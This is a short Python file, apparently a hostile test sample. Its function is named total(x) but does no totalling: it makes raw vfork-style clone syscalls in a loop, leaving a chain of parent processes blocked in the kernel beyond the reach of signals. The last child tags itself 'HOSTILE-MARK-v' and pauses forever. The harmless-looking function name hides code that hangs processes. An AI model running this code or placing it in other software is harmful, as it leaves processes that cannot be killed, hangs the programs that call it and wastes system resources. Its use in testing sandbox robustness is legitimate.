"""Makes children for which the kernel holds their parents, where no signal reaches."""

import ctypes
import os

_CLONE = {"x86_64": 56, "aarch64": 220}
_VFORK, _SIGCHLD = 0x4000, 17


def total(x):
    """Wait in the kernel for a child that waits for a child that waits."""
    libc = ctypes.CDLL(None)
    libc.vfork.restype = ctypes.c_int
    for _ in range(5):
        flags = ctypes.c_ulong(_VFORK | _SIGCHLD)
        if libc.syscall(_CLONE[os.uname().machine], flags, 0, 0, 0, 0) != 0:
            return float("nan")
    libc.prctl(15, b"HOSTILE-MARK-v", 0, 0, 0)
    while True:
        libc.pause()
